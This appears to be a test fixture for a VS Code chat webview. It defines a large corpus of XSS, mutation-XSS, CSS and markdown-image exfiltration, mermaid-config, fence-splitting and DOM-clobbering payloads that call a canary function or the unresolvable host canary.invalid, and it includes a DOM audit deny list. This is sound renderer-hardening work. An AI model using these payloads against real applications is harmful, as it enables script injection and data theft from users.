// Hostile model output, written for Rill's tests (not taken from a public list): each payload is a
// small piece of markdown/HTML that, if anything in it ever ran or loaded, would say so.
//
// - Script that runs calls `__rillCanary('<id>')` (the e2e suite defines it in every frame and
//   records each call), or posts `{ rillCanary: '<id>' }` to a parent, or fetches the canary host.
// - Anything that loads points at `https://canary.invalid/<id>`: `.invalid` never resolves, and the
//   e2e suite fails on any request for a host that is not loopback, so a load is seen even when
//   nothing answers.
//
// The same corpus runs through the real webview (test/e2e/hostile.test.ts) and through the
// renderer in jsdom (test/unit/hostile-corpus.test.ts); `auditTree` is the DOM check both use.
import { prng } from '../support/prng';

export { prng };

export const CANARY_HOST = 'canary.invalid';
/** What a payload "leaks" through a URL; the tests look for it in requests too. */
export const LEAK = 'RILL-LEAK-7f3a';

/** JavaScript that reports `id` when it runs. */
const js = (id: string): string => `__rillCanary('${id}')`;
/** A URL on the canary host for `id`, optionally carrying leaked data. */
const url = (id: string, leak = false): string => `https://${CANARY_HOST}/${id}${leak ? `?leak=${LEAK}` : ''}`;
const fence = '```';

export type Category =
  | 'script'
  | 'event-handler'
  | 'url-scheme'
  | 'svg'
  | 'mathml'
  | 'comment-entity'
  | 'css'
  | 'markdown-exfil'
  | 'mermaid'
  | 'fence-split'
  | 'embed-media'
  | 'clobber-spoof';

export interface Payload {
  id: string;
  category: Category;
  text: string;
  /**
   * Leaves something open (a raw-text element, a comment, a fence) that would swallow what
   * follows it: put last in its answer so the payloads after it are still parsed as themselves.
   */
  last?: boolean;
}

const b64 = (text: string): string => Buffer.from(text, 'utf8').toString('base64');

type Row = [text: string, last?: boolean];
function group(category: Category, prefix: string, rows: Array<(id: string) => Row | string>): Payload[] {
  return rows.map((row, i) => {
    const id = `${prefix}-${String(i + 1).padStart(2, '0')}`;
    const made = row(id);
    const [text, last] = typeof made === 'string' ? [made, false] : made;
    return { id, category, text, ...(last ? { last: true } : {}) };
  });
}

const script = group('script', 'scr', [
  (id) => `<script>${js(id)}</script>`,
  (id) => `<SCRIPT>${js(id)}</SCRIPT>`,
  (id) => `<ScRiPt >${js(id)}</sCrIpT >`,
  (id) => `<script src="${url(id)}.js"></script>`,
  (id) => `<script type="module">${js(id)}</script>`,
  (id) => `<script defer src=//${CANARY_HOST}/${id}></script>`,
  (id) => `<scr<script>ipt>${js(id)}</scr</script>ipt>`,
  (id) => `<script/any>${js(id)}</script>`,
  (id) => `Text before <script\n>${js(id)}</script\n> and after.`,
  (id) => `<<script>${js(id)};//<</script>`,
  (id) => `<script nonce="">${js(id)}</script>`,
  (id) => `<script src="data:text/javascript,${js(id)}"></script>`,
  (id) => `<script>fetch('${url(id)}')</script>`,
  (id) => `<div><p><script>${js(id)}</script></p></div>`,
  (id) => `<template><script>${js(id)}</script></template>`,
  (id) => `<noscript><p title="</noscript><img src=x onerror=${js(id)}>"></noscript>`,
  (id) => `<script type="text/plain">${js(id)}</script>`,
  (id) => `<script>document.body.append(Object.assign(document.createElement('img'),{src:'${url(id)}'}))</script>`,
  (id) => `<script>parent.postMessage({rillCanary:'${id}'},'*')</script>`,
  (id) => `<xmp></xmp><script>${js(id)}</script>`,
  (id) => `**bold <script>${js(id)}</script> still bold**`,
  (id) => [`An answer that ends inside <script>${js(id)}`, true],
]);

const eventHandler = group('event-handler', 'evt', [
  (id) => `<img src=x onerror="${js(id)}">`,
  (id) => `<img/src=x/onerror=${js(id)}>`,
  (id) => `<IMG SRC=x ONERROR="${js(id)}">`,
  (id) => `<img src=x onerror\n=${js(id)}>`,
  (id) => `<img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" onload="${js(id)}">`,
  (id) => `<body onload="${js(id)}">`,
  (id) => `<details open ontoggle="${js(id)}"><summary>s</summary>d</details>`,
  (id) => `<div onmouseover="${js(id)}">hover me</div>`,
  (id) => `<a href="https://example.com/" onclick="${js(id)}">click</a>`,
  (id) => `<button onclick="${js(id)}">Press</button>`,
  (id) => `<input autofocus onfocus="${js(id)}">`,
  (id) => `<textarea autofocus onfocus="${js(id)}"></textarea>`,
  (id) => `<select autofocus onfocus="${js(id)}"><option>o</option></select>`,
  (id) => `<video src=x onerror="${js(id)}"></video>`,
  (id) => `<audio src=x onerror="${js(id)}"></audio>`,
  (id) => `<marquee onstart="${js(id)}">m</marquee>`,
  (id) => `<p onpointerenter="${js(id)}">p</p>`,
  (id) => `<span onanimationstart="${js(id)}" style="animation:spin 1s">a</span>`,
  (id) => `<form onsubmit="${js(id)}"><input type=submit></form>`,
  (id) => `<iframe onload="${js(id)}"></iframe>`,
  (id) => `<object data=x onerror="${js(id)}"></object>`,
  (id) => `<table><tr><td onclick="${js(id)}">cell</td></tr></table>`,
  (id) => `<h2 tabindex=0 autofocus onfocusin="${js(id)}">heading</h2>`,
  (id) => `<ul><li oncopy="${js(id)}">item</li></ul>`,
  (id) => `<kbd contenteditable onbeforeinput="${js(id)}">k</kbd>`,
  (id) => `<section oncontextmenu="${js(id)}">s</section>`,
  (id) => `<dialog open onclose="${js(id)}">d</dialog>`,
  (id) => `<img src=x onerror=\`${js(id)}\`>`,
  (id) => `<img src=x onerror="&#95;&#95;rillCanary('${id}')">`,
  (id) => `<img src=x onerror=__rillCanary&#40;'${id}'&#41;>`,
  (id) => `<img src=x one rror="${js(id)}" onerror="${js(id)}">`,
  (id) => `<svg><rect width=9 height=9 onmouseover="${js(id)}"/></svg>`,
  (id) => `<image src=x onerror="${js(id)}">`,
  (id) => `<a href="https://example.com/" onauxclick="${js(id)}">middle</a>`,
  (id) => `<source onerror="${js(id)}"><track onerror="${js(id)}">`,
]);

const urlScheme = group('url-scheme', 'url', [
  (id) => `[plain](javascript:${js(id)})`,
  (id) => `[upper](JAVASCRIPT:${js(id)})`,
  (id) => `[angle](<javascript:${js(id)}>)`,
  (id) => `[vb](vbscript:msgbox("${id}"))`,
  (id) => `[dataurl](data:text/html;base64,${b64(`<script>${js(id)}</script>`)})`,
  (id) => `<a href="javascript:${js(id)}">raw</a>`,
  (id) => `<a href="  javascript:${js(id)}">spaced</a>`,
  (id) => `<a href="java\tscript:${js(id)}">tab</a>`,
  (id) => `<a href="data:text/html,<script>${js(id)}</script>">data</a>`,
  (id) => `<a href="vbscript:${js(id)}">vb</a>`,
  (id) => `<iframe src="javascript:${js(id)}"></iframe>`,
  (id) => `<iframe src="data:text/html,<script>parent.${js(id)}</script>"></iframe>`,
  (id) => `<iframe src="${url(id, true)}"></iframe>`,
  (id) => `<form action="javascript:${js(id)}"><button>go</button></form>`,
  (id) => `<form><button formaction="javascript:${js(id)}">go</button></form>`,
  (id) => `<meta http-equiv="refresh" content="0;url=javascript:${js(id)}">`,
  (id) => `<meta http-equiv="refresh" content="0;url=${url(id, true)}">`,
  (id) => `<base href="${url(id)}/"><a href="relative">rel</a>`,
  (id) => `<img src="javascript:${js(id)}">`,
  (id) => `[term](command:workbench.action.terminal.new) (${id})`,
  (id) => `[file](file:///etc/passwd) <a href="vscode://rill.rill/${id}">vscode</a>`,
  (id) => `<a href="//${CANARY_HOST}/${id}">protocol-relative</a>`,
  (id) => `[self](#${id}) [empty]() [rel](/${id}?leak=${LEAK})`,
  (id) => `<a href="https://example.com/" target="_top" rel="opener">${id}</a>`,
]);

const svg = group('svg', 'svg', [
  (id) => `<svg onload="${js(id)}"></svg>`,
  (id) => `<svg><script>${js(id)}</script></svg>`,
  (id) => `<svg><script href="data:,${js(id)}"/></svg>`,
  (id) => `<svg><a href="javascript:${js(id)}"><text y="20">x</text></a></svg>`,
  (id) => `<svg xmlns:xlink="http://www.w3.org/1999/xlink"><a xlink:href="javascript:${js(id)}"><rect width="9" height="9"/></a></svg>`,
  (id) => `<svg><animate onbegin="${js(id)}" attributeName="x" dur="1s"/></svg>`,
  (id) => `<svg><a><set attributeName="href" to="javascript:${js(id)}"/><text y="20">set</text></a></svg>`,
  (id) => `<svg><a><animate attributeName="href" values="javascript:${js(id)}"/><text y="20">anim</text></a></svg>`,
  (id) => `<svg><foreignObject><img src=x onerror="${js(id)}"></foreignObject></svg>`,
  (id) => `<svg><use href="data:image/svg+xml,<svg id='u' xmlns='http://www.w3.org/2000/svg'><image href='${url(id)}'/></svg>#u"/></svg>`,
  (id) => `<svg><image href="${url(id, true)}"/></svg>`,
  (id) => `<svg><style>@import url(${url(id)}.css)</style></svg>`,
  (id) => `<svg><filter id="f"><feImage href="${url(id)}"/></filter><rect filter="url(#f)" width="9" height="9"/></svg>`,
  (id) => `<svg><p><style><g title="</style><img src=x onerror=${js(id)}>"></g></style></p></svg>`,
  (id) => `<svg><discard onbegin="${js(id)}"/></svg>`,
  (id) => `<img src="data:image/svg+xml;base64,${b64(`<svg xmlns="http://www.w3.org/2000/svg" onload="${js(id)}"/>`)}">`,
  (id) => `<svg><title><img src=x onerror="${js(id)}"></title></svg>`,
  (id) => `<svg><desc><![CDATA[</desc><img src=x onerror="${js(id)}">]]></desc></svg>`,
]);

const mathml = group('mathml', 'mml', [
  (id) => `<math><maction actiontype="statusline" xlink:href="javascript:${js(id)}">x<mtext>s</mtext></maction></math>`,
  (id) => `<math href="javascript:${js(id)}"><mi>x</mi></math>`,
  (id) => `<math><mi xlink:href="data:x,${js(id)}">y</mi></math>`,
  (id) => `<math><annotation-xml encoding="text/html"><img src=x onerror="${js(id)}"></annotation-xml></math>`,
  (id) => `<math><semantics><annotation-xml encoding="application/xhtml+xml"><svg onload="${js(id)}"/></annotation-xml></semantics></math>`,
  (id) => `<math><mtext><img src=x onerror="${js(id)}"></mtext></math>`,
  (id) => `<math><a href="${url(id)}">m</a></math>`,
  (id) => [`<math><mtext><table><mglyph><style><img src=x onerror="${js(id)}">`, true],
  (id) => [`<math><mtext><h1><a><mglyph><style><!--</style><img src=x onerror="${js(id)}">-->`, true],
]);

const commentEntity = group('comment-entity', 'ent', [
  (id) => `<!-- --><img src=x onerror="${js(id)}"><!-- -->`,
  (id) => `<!--><img src=x onerror="${js(id)}">-->`,
  (id) => `<!---><img src=x onerror="${js(id)}">-->`,
  (id) => `<![CDATA[<img src=x onerror="${js(id)}">]]>`,
  (id) => `<? <img src=x onerror="${js(id)}"> ?>`,
  (id) => `&lt;script&gt;${js(id)}&lt;/script&gt; must stay text`,
  (id) => `<a href="&#106;avascript:${js(id)}">dec</a>`,
  (id) => `<a href="&#x6a&#x61&#x76&#x61script:${js(id)}">hex-no-semicolon</a>`,
  (id) => `<a href="javascript&colon;${js(id)}">colon</a>`,
  (id) => `[md-entity](&#106;avascript:${js(id)})`,
  (id) => `[md-colon](javascript&#58;${js(id)})`,
  (id) => `<a href="jav&NewLine;ascript:${js(id)}">newline</a>`,
  (id) => `<a href="&#0000106avascript:${js(id)}">zeros</a>`,
  (id) => `<a href="%6Aavascript:${js(id)}">percent</a>`,
  (id) => `\\<script>${js(id)}\\</script> escaped by markdown`,
  (id) => `Inline code: \`<script>${js(id)}</script>\``,
  (id) => `<scr\u0000ipt>${js(id)}</scr\u0000ipt>`,
  (id) => `<img src=x onerror="${js(id)}"\u0000>`,
  (id) => `<a href="java&#9;script:${js(id)}">tab-entity</a>`,
  (id) => `<a href="&Tab;javascript:${js(id)}">lead-tab</a>`,
  (id) => `<img src="x" alt="--><img src=x onerror=${js(id)}>">`,
  (id) => [`<!-- an answer that ends inside a comment <img src=x onerror="${js(id)}">`, true],
]);

const css = group('css', 'css', [
  (id) => `<style>@import '${url(id)}.css';</style>`,
  (id) => `<style>p{background:url(${url(id, true)})}</style><p>x</p>`,
  (id) => `<p style="background-image:url('${url(id, true)}')">x</p>`,
  (id) => `<div style="width:expression(${js(id)})">x</div>`,
  (id) => `<link rel="stylesheet" href="${url(id)}.css">`,
  (id) => `<style>@font-face{font-family:z;src:url(${url(id)})}body{font-family:z}</style>`,
  (id) => `<span style="behavior:url(${url(id)}.htc)">x</span>`,
  (id) => `<div style="background:url(javascript:${js(id)})">x</div>`,
  (id) => `<style>*{list-style:url("${url(id)}")}</style>`,
  (id) => `<style>textarea[data-testid=chat-input]{background:url(${url(id, true)})}</style>`,
  (id) => `<div style="position:fixed;inset:0;z-index:9999;background:#fff">Rill: paste your API key here (${id})</div>`,
  (id) => `<style>@\\69mport url(${url(id)})</style>`,
  (id) => `<div style="--x:url(${url(id)});background:var(--x)">x</div>`,
  (id) => `<style>body{cursor:url(${url(id)}),auto}</style>`,
  (id) => `<link rel="preload" as="image" href="${url(id)}">`,
  (id) => `<link rel="prefetch" href="${url(id, true)}"><link rel="dns-prefetch" href="//${id}.${CANARY_HOST}">`,
  (id) => [`<style>/* an answer that ends inside a style element ${id}`, true],
]);

const markdownExfil = group('markdown-exfil', 'md', [
  (id) => `![x](${url(id, true)})`,
  (id) => `![titled](${url(id)} "a title")`,
  (id) => `Reference: ![x][r-${id}]\n\n[r-${id}]: ${url(id, true)}`,
  (id) => `![][r-${id}]\n\n[r-${id}]: <${url(id)}>`,
  (id) => `[![inner](${url(id)}.png)](${url(`${id}-link`)})`,
  (id) => `<${url(id, true)}>`,
  (id) => `Bare autolink ${url(id, true)} in prose.`,
  (id) => `www.${CANARY_HOST}/${id}?leak=${LEAK}`,
  (id) => `[docs](${url(id)}?q=${LEAK}&user=me)`,
  (id) => `![x](//${CANARY_HOST}/${id})`,
  (id) => `<img src="${url(id, true)}">`,
  (id) => `<img srcset="${url(id)} 1x, ${url(id)}-2 2x">`,
  (id) => `<picture><source srcset="${url(id)}"><img alt="p"></picture>`,
  (id) => `![svgdata](data:image/svg+xml;base64,${b64(`<svg xmlns="http://www.w3.org/2000/svg" onload="${js(id)}"/>`)})`,
  (id) => `| col |\n|---|\n| ![t](${url(id)}) |`,
  (id) => `> quoted ![q](${url(id)})`,
  (id) => `- item ![l](${url(id)})`,
  (id) => `**![b](${url(id)})**`,
  (id) => `Shortcut ![sc-${id}]\n\n[sc-${id}]: ${url(id, true)}`,
  (id) => `![x](<${url(id)} with space>)`,
  (id) => `<input type="image" src="${url(id)}">`,
  (id) => `[mail](mailto:leak@${CANARY_HOST}?subject=${id}&body=${LEAK})`,
  (id) => `![alt "quote" <b>](${url(id)} 'single')`,
  (id) => `![x](${url(id)}\n"title on next line")`,
]);

const mermaid = group('mermaid', 'mmd', [
  (id) => `${fence}mermaid\n%%{init: {"securityLevel":"loose"}}%%\ngraph TD\nA-->B\nclick A callback "${id}"\n${fence}`,
  (id) => `${fence}mermaid\n%%{init: {"securityLevel":"loose"}}%%\ngraph TD\nA-->B\nclick A call __rillCanary("${id}")\n${fence}`,
  (id) => `${fence}mermaid\ngraph TD\nA-->B\nclick A href "javascript:${js(id)}"\n${fence}`,
  (id) => `${fence}mermaid\ngraph LR\nA-->B\nclick B "${url(id, true)}" _blank\n${fence}`,
  (id) => `${fence}mermaid\n%%{init: {"flowchart":{"htmlLabels":true}}}%%\ngraph TD\nA["<img src=x onerror=${js(id)}>"]-->B\n${fence}`,
  (id) => `${fence}mermaid\ngraph TD\nA["<a href='javascript:${js(id)}'>label</a>"]-->B\n${fence}`,
  (id) => `${fence}mermaid\nsequenceDiagram\nAlice->>Bob: <script>${js(id)}</script>\nNote over Bob: <img src=x onerror=${js(id)}>\n${fence}`,
  (id) => `${fence}mermaid\n%%{init: {"theme":"base","themeCSS":"@import url(${url(id)});"}}%%\ngraph TD\nA-->B\n${fence}`,
  (id) => `${fence}mermaid\n%%{init: {"fontFamily":"x;background:url(${url(id)})"}}%%\ngraph TD\nA-->B\n${fence}`,
  (id) => `${fence}mermaid\nclassDiagram\nclass A\nlink A "javascript:${js(id)}"\ncallback A "__rillCanary"\n${fence}`,
  (id) => `${fence}mermaid\ngraph TD\nA-->B\nstyle A fill:url(${url(id)})\n${fence}`,
  (id) => `${fence}mermaid\ngraph TD\nA:::c-->B\nclassDef c fill:#f00,background:url(${url(id)})\n${fence}`,
  (id) => `${fence}mermaid\ngantt\ndateFormat YYYY-MM-DD\nsection S\nTask :t1, 2024-01-01, 1d\nclick t1 call __rillCanary("${id}")\n${fence}`,
  (id) => `${fence}mermaid\npie title <img src=x onerror=${js(id)}>\n"a" : 1\n${fence}`,
  (id) => `${fence}mermaid\n%%{init: {"securityLevel":"antiscript","dompurifyConfig":{"ADD_TAGS":["script"]},"secure":[]}}%%\ngraph TD\nA["<script>${js(id)}</script>"]\n${fence}`,
  (id) => `${fence}mermaid\ngraph TD\nA[/"<iframe src=javascript:${js(id)}>"/]\n${fence}`,
  (id) => `${fence}mermaid\n%%{init: {"startOnLoad":true,"maxTextSize":1e9}}%%\nflowchart TD\nA-- "<img src=${url(id)}>" -->B\n${fence}`,
  (id) => `${fence}mermaid\ngraph TD\nA-->B\n${fence}<img src=x onerror="${js(id)}">`,
  (id) => `<pre class="mermaid">graph TD\nA["<img src=x onerror=${js(id)}>"]</pre>`,
  (id) => `${fence}mermaid\n---\nconfig:\n  fontFamily: "x;background:url(${url(id)})"\n  securityLevel: loose\n---\ngraph TD\nA-->B\nclick A call __rillCanary("${id}")\n${fence}`,
  (id) => `${fence}mermaid\n%%{init: {"themeVariables":{"primaryColor":"red;background-image:url(${url(id)})"}}}%%\ngraph TD\nA-->B\n${fence}`,
  (id) => `${fence}mermaid\n%%{init: {"themeCSS":".node rect{fill:url(${url(id)})}"}}%%\ngraph TD\nA-->B\n${fence}`,
]);

const fenceSplit = group('fence-split', 'fnc', [
  (id) => `${fence}\n</code></pre><img src=x onerror="${js(id)}">\n${fence}`,
  (id) => `${fence}html\n<script>${js(id)}</script>\n${fence}`,
  (id) => `${fence} onerror=${js(id)}\nx\n${fence}`,
  (id) => `${fence}"><img src=x onerror=${js(id)}>\nx\n${fence}`,
  (id) => `~~~js\n</pre><script>${js(id)}</script>\n~~~`,
  (id) => `<pre>\n${fence}\n</pre><img src=x onerror="${js(id)}">\n${fence}`,
  (id) => `    <img src=x onerror="${js(id)}"> (indented code)`,
  (id) => `<img src=x\n\n${fence}\nonerror="${js(id)}">\n${fence}`,
  (id) => `\`<img src=x onerror="${js(id)}">\``,
  (id) => `<div>\n\n${fence}\n</div><img src=x onerror="${js(id)}">\n${fence}\n\n</div>`,
  (id) => `[split](${url(id)}\n${fence}\n) <img src=x onerror="${js(id)}">\n${fence}`,
  (id) => `<a href="\n${fence}\n">javascript:${js(id)}</a>\n${fence}`,
  (id) => `${fence}\`\`\`\n<script>${js(id)}</script>\n${fence}\`\`\``,
  (id) => `<details><summary>${fence}</summary>\n\n<img src=x onerror="${js(id)}">\n\n</details>`,
  (id) => `1. list\n   ${fence}\n   <script>${js(id)}</script>\n   ${fence}\n2. <img src=x onerror="${js(id)}">`,
  (id) => [`Unclosed fence next:\n\n${fence}html\n<img src=x onerror="${js(id)}">`, true],
]);

const embedMedia = group('embed-media', 'emb', [
  (id) => `<iframe src="${url(id)}"></iframe>`,
  (id) => `<iframe srcdoc="&lt;script&gt;parent.${js(id)}&lt;/script&gt;"></iframe>`,
  (id) => `<object data="${url(id)}"></object>`,
  (id) => `<embed src="${url(id)}">`,
  (id) => `<video src="${url(id)}.mp4" autoplay muted></video>`,
  (id) => `<video poster="${url(id, true)}"></video>`,
  (id) => `<audio src="${url(id)}.mp3" autoplay></audio>`,
  (id) => `<audio controls><source src="${url(id)}.ogg"></audio>`,
  (id) => `<video><track default src="${url(id)}.vtt"></video>`,
  (id) => `<table background="${url(id, true)}"><tr><td>t</td></tr></table>`,
  (id) => `<body background="${url(id)}">`,
  (id) => `<frameset><frame src="${url(id)}"></frameset>`,
  (id) => `<portal src="${url(id)}"></portal>`,
  (id) => `<a href="https://example.com/${id}" ping="${url(id, true)}">ping</a>`,
  (id) => `<img src="x" srcset="${url(id)} 2x">`,
  (id) => `<object type="text/html" data="data:text/html,<script>parent.${js(id)}</script>"></object>`,
  (id) => `<applet code="${url(id)}"></applet><bgsound src="${url(id)}">`,
  (id) => `<image src="${url(id, true)}">`,
  (id) => `<img lowsrc="${url(id)}" dynsrc="${url(id)}">`,
  (id) => `<isindex action="javascript:${js(id)}" type="image" src="${url(id)}">`,
  (id) => `<object><param name="src" value="${url(id)}"><embed src="${url(id)}"></object>`,
]);

const clobberSpoof = group('clobber-spoof', 'clb', [
  (id) => `<form id="app" name="${id}"><input name="addEventListener"></form>`,
  (id) => `<a id="acquireVsCodeApi" name="acquireVsCodeApi" href="https://example.com/${id}">a</a>`,
  (id) => `<img name="getElementById" id="${id}">`,
  (id) => `<a href="javascript:${js(id)}" data-testid="action-retry">Retry</a>`,
  (id) => `<span class="image-placeholder" data-url="javascript:${js(id)}"><button data-action="open-image">Open image</button></span>`,
  (id) => `<span class="image-placeholder" data-testid="image-placeholder" data-url="${url(id, true)}"><button type="button" class="image-open" data-action="open-image">Open image</button></span>`,
  (id) => `<div data-testid="message" data-role="assistant" data-state="done"><a href="javascript:${js(id)}">fake answer</a></div>`,
  (id) => `<div class="code-tools"><button data-testid="code-insert" onclick="${js(id)}">Insert</button></div>`,
  (id) => `<a href="https://example.com/" is="x-${id}">is</a>`,
  (id) => `<input type="checkbox" checked onclick="${js(id)}"> task`,
  (id) => `- [x] done <img src=x onerror="${js(id)}">\n- [ ] open`,
  (id) => `<a href="#" id="__proto__" name="${id}">proto</a>`,
]);

/** Every payload, in a fixed order. */
export const corpus: readonly Payload[] = [
  ...script,
  ...eventHandler,
  ...urlScheme,
  ...svg,
  ...mathml,
  ...commentEntity,
  ...css,
  ...markdownExfil,
  ...mermaid,
  ...fenceSplit,
  ...embedMedia,
  ...clobberSpoof,
];

/** How many payloads each category has. */
export function countByCategory(payloads: readonly Payload[] = corpus): Record<string, number> {
  const counts: Record<string, number> = {};
  for (const p of payloads) counts[p.category] = (counts[p.category] ?? 0) + 1;
  return counts;
}


/** Splits `text` into chunks of `min`..`max` code points (never inside a surrogate pair). */
export function randomChunks(text: string, random: () => number, min = 1, max = 20): string[] {
  const points = Array.from(text);
  const chunks: string[] = [];
  for (let i = 0; i < points.length; ) {
    const size = min + Math.floor(random() * (max - min + 1));
    chunks.push(points.slice(i, i + size).join(''));
    i += size;
  }
  return chunks;
}

/**
 * Groups the corpus into answers of about `size` payloads, shuffled by `random` (so each seed
 * puts different neighbours next to each other), with any payload that leaves something open
 * placed last in its answer.
 */
export function answers(random: () => number, size = 15, payloads: readonly Payload[] = corpus): Payload[][] {
  const shuffled = [...payloads];
  for (let i = shuffled.length - 1; i > 0; i--) {
    const j = Math.floor(random() * (i + 1));
    [shuffled[i], shuffled[j]] = [shuffled[j] as Payload, shuffled[i] as Payload];
  }
  const closing = shuffled.filter((p) => !p.last);
  const open = shuffled.filter((p) => p.last);
  const count = Math.max(open.length, Math.ceil(payloads.length / size));
  const groups: Payload[][] = Array.from({ length: count }, () => []);
  closing.forEach((p, i) => groups[i % count]?.push(p));
  open.forEach((p, i) => groups[i]?.push(p));
  return groups;
}

/** The text of one answer: its payloads separated by blank lines, each under a visible id. */
export function answerText(payloads: readonly Payload[]): string {
  return payloads.map((p) => `payload ${p.id}:\n\n${p.text}`).join('\n\n');
}

/**
 * URLs a page may request without anything leaving the machine: loopback, the webview's own
 * resources (served by its service worker from the extension's folder), and in-page schemes.
 */
export function isInternalUrl(raw: string): boolean {
  let parsed: URL;
  try {
    parsed = new URL(raw);
  } catch {
    return false;
  }
  if (['blob:', 'data:', 'about:', 'vscode-webview:', 'vscode-resource:', 'vscode-file:', 'chrome-error:'].includes(parsed.protocol)) return true;
  // Schemes without a network host (mailto:) send nothing by themselves.
  if (!['http:', 'https:', 'ws:', 'wss:', 'ftp:'].includes(parsed.protocol)) return true;
  const host = parsed.hostname;
  if (host === '127.0.0.1' || host === 'localhost' || host === '[::1]') return true;
  return host.endsWith('.vscode-resource.vscode-cdn.net');
}

/**
 * Checks a rendered tree for anything model output must never produce, returning one line per
 * problem (empty when clean). Used in jsdom directly and in the real webview through
 * `auditExpression`, so it must stay self-contained: nothing from outside this function.
 *
 * `root` is normally the message log. App-made controls are recognised by what the app puts on
 * them; everything else is treated as coming from the model.
 */
export function auditTree(root: Element): string[] {
  const problems: string[] = [];
  // Elements that run script, load or embed documents, change the page's base or policy, submit,
  // or reference other SVG content (media and images are judged by what they would load).
  const forbidden = new Set([
    'script', 'iframe', 'frame', 'frameset', 'object', 'embed', 'applet', 'base', 'meta', 'link', 'form', 'portal',
    'math', 'foreignobject', 'use', 'image', 'feimage', 'animate', 'set', 'animatemotion', 'animatetransform',
    'discard', 'handler', 'listener', 'textarea', 'select', 'isindex', 'keygen', 'param',
  ]);
  /** Attributes that make the browser fetch something (or are a document of their own). */
  const loading = new Set([
    'src', 'srcset', 'poster', 'background', 'data', 'ping', 'lowsrc', 'dynsrc', 'codebase', 'manifest', 'icon',
    'action', 'formaction', 'srcdoc',
  ]);
  /** Attributes holding a URL the browser or the app may follow. */
  const urls = new Set([...loading, 'href', 'xlink:href', 'cite', 'longdesc', 'to', 'values', 'from', 'by', 'content', 'data-url']);
  const describe = (el: Element): string => {
    const copy = el.cloneNode(false) as Element;
    const outer = (copy as Element & { outerHTML?: string }).outerHTML ?? `<${el.localName}>`;
    const host = el.closest('[data-testid="message"]');
    const hint = host ? ` in message ${host.getAttribute('data-message-id') ?? '?'}` : '';
    return `${outer.slice(0, 160)}${hint}`;
  };
  const elements = [root, ...Array.from(root.querySelectorAll('*'))];
  for (const el of elements) {
    const tag = el.localName.toLowerCase();
    const inDiagram = el.closest('.mermaid-diagram') !== null;
    const appButton =
      tag === 'button' &&
      ((el.getAttribute('data-testid') ?? '').length > 0 || el.classList.contains('image-open')) &&
      el.closest('[data-testid="message-body"]') !== null &&
      (el.closest('.code-tools') !== null || el.closest('[data-testid="image-placeholder"]') !== null);
    if (forbidden.has(tag)) problems.push(`forbidden element <${tag}>: ${describe(el)}`);
    if (tag === 'svg' && !inDiagram && (!el.parentElement || el.parentElement.closest('svg') === null)) problems.push(`svg outside a drawn diagram: ${describe(el)}`);
    if (tag === 'style' && !inDiagram) problems.push(`style element: ${describe(el)}`);
    if (tag === 'style' && inDiagram && /@import|url\(\s*['"]?(?!#)|expression\(|javascript:|behavior/i.test(el.textContent ?? '')) {
      problems.push(`diagram style loads or runs something: ${(el.textContent ?? '').slice(0, 160)}`);
    }
    if (tag === 'button' && !appButton && el.closest('[data-testid="message-body"]') !== null) problems.push(`button from model output: ${describe(el)}`);
    if (tag === 'input' && !(el.getAttribute('type') === 'checkbox' && el.hasAttribute('disabled'))) problems.push(`input that is not a disabled checkbox: ${describe(el)}`);
    for (const attr of Array.from(el.attributes)) {
      const name = attr.name.toLowerCase();
      const value = attr.value;
      if (name.startsWith('on')) problems.push(`event handler attribute ${name}: ${describe(el)}`);
      if (name === 'style' && !inDiagram && value.trim() !== '') problems.push(`style attribute from model output: ${describe(el)}`);
      if (name === 'style' && /url\(\s*['"]?(?!#)|expression\(|javascript:|behavior|@import/i.test(value)) problems.push(`style that loads or runs: ${describe(el)}`);
      if (name === 'srcdoc') problems.push(`srcdoc: ${describe(el)}`);
      if (name === 'is' && value.trim() !== '') problems.push(`customized built-in (is=): ${describe(el)}`);
      if (!urls.has(name)) continue;
      // What the URL parser would see: ASCII tab and newline removed, leading C0 controls and spaces trimmed.
      // eslint-disable-next-line no-control-regex -- the URL parser trims exactly these
      const cleaned = value.replace(/[\t\n\r]/g, '').replace(/^[\u0000-\u0020]+/, '');
      const scheme = /^([a-z][a-z0-9+.-]*):/i.exec(cleaned)?.[1]?.toLowerCase();
      if (scheme && ['javascript', 'vbscript', 'data', 'livescript', 'file', 'command', 'vscode', 'vscode-insiders'].includes(scheme)) {
        problems.push(`${scheme}: URL in ${name}: ${describe(el)}`);
        continue;
      }
      if (name === 'href' || name === 'xlink:href') {
        // Links stay only for the web and mail; in a diagram only same-document references.
        const fine = inDiagram ? cleaned.startsWith('#') : /^(?:https?:|mailto:|#)/i.test(cleaned);
        if (!fine) problems.push(`link to "${cleaned.slice(0, 80)}": ${describe(el)}`);
        continue;
      }
      if (loading.has(name) && !(inDiagram && cleaned.startsWith('#'))) problems.push(`${name}="${cleaned.slice(0, 80)}" would load: ${describe(el)}`);
    }
  }
  return problems;
}

/**
 * `auditTree` as an expression to evaluate in a page, on the element `rootSelector` finds (an
 * empty list when there is none). The transpiler that runs the tests wraps inner functions in a
 * `__name` helper that only exists in Node: the expression brings its own.
 */
export function auditExpression(rootSelector: string): string {
  return `(() => { const __name = (f) => f; const root = document.querySelector(${JSON.stringify(rootSelector)}); return root ? (${auditTree.toString()})(root) : []; })()`;
}
